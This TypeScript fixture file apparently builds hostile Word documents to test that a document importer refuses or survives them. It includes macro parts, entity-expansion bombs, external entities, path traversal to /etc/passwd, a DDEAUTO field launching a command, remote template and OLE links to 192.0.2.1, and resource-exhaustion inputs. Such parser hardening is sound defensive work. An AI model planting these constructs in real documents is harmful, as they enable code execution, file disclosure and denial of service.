import { strToU8, zipSync } from 'fflate';
import { packDocx, paragraph } from '../formats/write-docx.ts';
import { entities, external, scatteredHan, type HostileBook } from './hostile-book.ts';

const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const numbered = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>';
const relation = (id: string, type: string, target: string, mode = ''): string =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/>`;
const drawing = (id: string): string =>
  `<w:p><w:r><w:t>甲</w:t><w:drawing><a:blip r:embed="${id}"/></w:drawing></w:r></w:p>`;

/** Rows of a table, with a number in each cell. */
const manyRows = (rows: number, columns: number): string =>
  Array.from(
    { length: rows },
    (_, row) =>
      `<w:tr>${Array.from({ length: columns }, (__, column) => `<w:tc>${paragraph(`${row * columns + column}`)}</w:tc>`).join('')}</w:tr>`,
  ).join('');

const nested = (depth: number, open: string, close: string): string =>
  `${open.repeat(depth)}${paragraph('甲')}${close.repeat(depth)}`;

/** The head of a PNG that claims to be this large, with nothing behind it. */
function pngHead(width: number, height: number): Uint8Array {
  const bytes = Buffer.alloc(64);
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').copy(bytes);
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

/** Word documents. */
export const word: Record<string, HostileBook> = {
  'macros by content type': {
    bytes: () =>
      packDocx(paragraph('甲'), {
        files: {
          '[Content_Types].xml':
            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        },
      }),
    refused: /macros/,
  },
  'macros by their part': {
    bytes: () => packDocx(paragraph('甲'), { files: { 'word/vbaProject.bin': 'x' } }),
    refused: /macros/,
  },
  'entities that multiply': {
    bytes: () => packDocx('', { files: { 'word/document.xml': `${entities}<a>&c;</a>` } }),
    refused: /entities/,
  },
  'an entity that is a file': {
    bytes: () => packDocx('', { files: { 'word/document.xml': `${external}<a>&a;</a>` } }),
    refused: /entities/,
  },
  'an entity in UTF-16': {
    bytes: () =>
      packDocx('', { files: { 'word/document.xml': Buffer.from(`\ufeff${external}<a>&a;</a>`, 'utf16le') } }),
    refused: /entities/,
  },
  'XML nested without end': { bytes: () => packDocx('<w:sdt>'.repeat(100_000)), refused: /nested too deep/ },
  'XML that is none': { bytes: () => packDocx('<w:p><w:r></w:p>'), refused: /no XML/ },
  'XML of two million elements': {
    bytes: () => packDocx('<w:p/>'.repeat(2_000_000)),
    refused: /./,
    heavy: true,
  },
  'an element of two hundred thousand attributes': {
    bytes: () =>
      packDocx(
        paragraph('第一章 甲') +
          `<w:p ${Array.from({ length: 200_000 }, (_, index) => `a${index}="1"`).join(' ')}><w:r><w:t>甲</w:t></w:r></w:p>`,
      ),
    heavy: true,
  },
  'a document without text': { bytes: () => packDocx('<w:p/>'), refused: /no text/ },
  'a Word document without its main part': {
    bytes: () => zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/a.xml': strToU8('<a/>') }),
    refused: /damaged/,
  },
  'a main part outside the archive': {
    bytes: () =>
      packDocx(paragraph('甲'), {
        files: {
          '_rels/.rels': `<Relationships>${relation('rId1', 'officeDocument', '../../../../etc/passwd')}</Relationships>`,
        },
      }),
  },
  'styles based on one another in a circle': {
    bytes: () =>
      packDocx(paragraph('第一章 甲', '<w:pStyle w:val="a"/>'), {
        files: {
          'word/styles.xml': `<w:styles ${w}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
        },
      }),
  },
  'numbering that refers to itself': {
    bytes: () =>
      packDocx(paragraph('甲', numbered), {
        files: {
          'word/numbering.xml': `<w:numbering ${w}><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="x"/><w:styleLink w:val="x"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
        },
      }),
  },
  'Roman numbers of a thousand million': {
    bytes: () =>
      packDocx(paragraph('第一章 甲') + paragraph('甲', numbered).repeat(200), {
        files: {
          'word/numbering.xml': `<w:numbering ${w}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="999999999"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
        },
      }),
    heavy: true,
  },
  'numbers that print themselves ten thousand times': {
    bytes: () =>
      packDocx(paragraph('甲', numbered).repeat(3000), {
        files: {
          'word/numbering.xml': `<w:numbering ${w}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/><w:lvlText w:val="${'%1'.repeat(10_000)}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
        },
      }),
  },
  'numbers past all letters': { bytes: () => packDocx(paragraph('甲', numbered).repeat(3000)) },
  'a note that refers to itself': {
    bytes: () =>
      packDocx('<w:p><w:r><w:t>甲</w:t><w:footnoteReference w:id="1"/></w:r></w:p>', {
        files: {
          'word/footnotes.xml': `<w:footnotes ${w}><w:footnote w:id="1"><w:p><w:r><w:t>乙</w:t><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>`,
        },
      }),
  },
  'pictures that are on other machines and elsewhere on this one': {
    bytes: () =>
      packDocx(`${drawing('rId7')}${drawing('rId8')}`, {
        relations:
          relation('rId7', 'image', 'http://192.0.2.1/a.png', ' TargetMode="External"') +
          relation('rId8', 'image', 'file:///etc/passwd'),
      }),
  },
  'a picture that says it is sixty thousand pixels wide': {
    bytes: () => packDocx(drawing('rId4'), { picture: pngHead(60_000, 60_000) }),
  },
  'a picture that is cut off': { bytes: () => packDocx(drawing('rId4'), { picture: pngHead(600, 400) }) },
  'a table of very many columns': {
    bytes: () =>
      packDocx(
        `<w:tbl><w:tr>${'<w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr><w:p><w:r><w:t>甲</w:t></w:r></w:p></w:tc>'.repeat(50)}</w:tr></w:tbl>`,
      ),
  },
  'text boxes within text boxes': {
    bytes: () =>
      packDocx(
        `${'<w:p><w:r><w:pict><w:txbxContent>'.repeat(100)}${paragraph('甲')}${'</w:txbxContent></w:pict></w:r></w:p>'.repeat(100)}`,
      ),
  },
  'a table of three hundred thousand cells': {
    bytes: () => packDocx(paragraph('第一章 甲') + `<w:tbl>${manyRows(30_000, 10)}</w:tbl>`),
    heavy: true,
  },
  'tables within tables, two cells a row': {
    bytes: () =>
      packDocx(nested(90, `<w:tbl><w:tr><w:tc>${paragraph('甲')}</w:tc><w:tc>`, '</w:tc></w:tr></w:tbl>')),
  },
  'tables within tables, with a heading at the bottom of each': {
    bytes: () =>
      packDocx(
        nested(
          90,
          `<w:tbl><w:tr><w:tc>`,
          `${paragraph('乙', '<w:pStyle w:val="1"/>')}</w:tc></w:tr></w:tbl>`,
        ),
      ),
  },
  'a paragraph of three hundred thousand runs': {
    bytes: () =>
      packDocx(
        paragraph('第一章 甲') +
          `<w:p>${[...scatteredHan(300_000)].map((character) => `<w:r><w:rPr><w:b/></w:rPr><w:t>${character}</w:t></w:r>`).join('')}</w:p>`,
      ),
    heavy: true,
  },
  'a paragraph of five million characters': {
    bytes: () => packDocx(paragraph('第一章 甲') + paragraph(scatteredHan(5_000_000))),
    heavy: true,
  },
  'fifty thousand styles, each based on the one before': {
    bytes: () =>
      packDocx(
        paragraph('第一章 甲') +
          Array.from({ length: 2000 }, (_, index) =>
            paragraph(`甲${index}`, `<w:pStyle w:val="s${49_999 - index}"/>`),
          ).join(''),
        {
          files: {
            'word/styles.xml': `<w:styles ${w}>${Array.from({ length: 50_000 }, (_, index) => `<w:style w:type="paragraph" w:styleId="s${index}"><w:name w:val="n${index}"/><w:basedOn w:val="s${index - 1}"/></w:style>`).join('')}</w:styles>`,
          },
        },
      ),
    heavy: true,
  },
  'twenty thousand lists of nine levels': {
    bytes: () =>
      packDocx(
        paragraph('第一章 甲') +
          Array.from({ length: 20_000 }, (_, index) =>
            paragraph('甲', `<w:numPr><w:ilvl w:val="${index % 9}"/><w:numId w:val="${index}"/></w:numPr>`),
          ).join(''),
        {
          files: {
            'word/numbering.xml': `<w:numbering ${w}><w:abstractNum w:abstractNumId="0">${Array.from({ length: 9 }, (_, level) => `<w:lvl w:ilvl="${level}"><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1%2%3%4%5%6%7%8%9"/></w:lvl>`).join('')}</w:abstractNum>${Array.from({ length: 20_000 }, (_, index) => `<w:num w:numId="${index}"><w:abstractNumId w:val="0"/></w:num>`).join('')}</w:numbering>`,
          },
        },
      ),
    heavy: true,
  },
  'letters that number from two thousand million on': {
    bytes: () =>
      packDocx(paragraph('第一章 甲') + paragraph('乙', numbered).repeat(50), {
        files: {
          'word/numbering.xml': `<w:numbering ${w}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="2000000000"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
        },
      }),
    read: true,
    heavy: true,
  },
  'a document within the document that is the document': {
    bytes: () =>
      packDocx(`${paragraph('第一章 甲')}<w:altChunk r:id="rId9"/>`, {
        relations: relation('rId9', 'aFChunk', 'document.xml'),
      }),
    read: true,
  },
  'a template, a spreadsheet and a document that are elsewhere': {
    bytes: () =>
      packDocx(
        `${paragraph('第一章 甲')}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\x "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>乙</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="rId10"/></w:object></w:r></w:p><w:subDoc r:id="rId11"/>`,
        {
          relations:
            relation('rId9', 'attachedTemplate', 'http://192.0.2.1/a.dotm', ' TargetMode="External"') +
            relation('rId10', 'oleObject', 'file://192.0.2.1/a.xls', ' TargetMode="External"') +
            relation('rId11', 'subDocument', 'file:///etc/passwd', ' TargetMode="External"'),
        },
      ),
    read: true,
  },
  'relations that lead to one another in a circle': {
    bytes: () =>
      packDocx(paragraph('第一章 甲'), {
        files: {
          'word/_rels/document.xml.rels': `<Relationships>${relation('rId1', 'styles', '_rels/document.xml.rels')}${relation('rId2', 'numbering', 'document.xml')}${relation('rId3', 'footnotes', 'document.xml')}${relation('rId4', 'comments', '../_rels/.rels')}</Relationships>`,
        },
      }),
    read: true,
  },
  'a document whose namespace has another prefix': {
    bytes: () =>
      packDocx('', {
        files: {
          'word/document.xml': `<ns0:document xmlns:ns0="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><ns0:body>${'<ns0:p><ns0:r><ns0:t>第一章 甲</ns0:t></ns0:r></ns0:p>'.repeat(3)}</ns0:body></ns0:document>`,
        },
      }),
    read: true,
  },
  'a document that is all white space and marks without width': {
    bytes: () => packDocx(paragraph('\u200b\u00a0\u3000\ufeff\u2060').repeat(100)),
    refused: /no text/,
  },
  'characters that XML forbids': {
    bytes: () => packDocx('<w:p><w:r><w:t>甲&#0;&#xd800;乙</w:t></w:r></w:p>'),
    refused: /no XML/,
  },
};
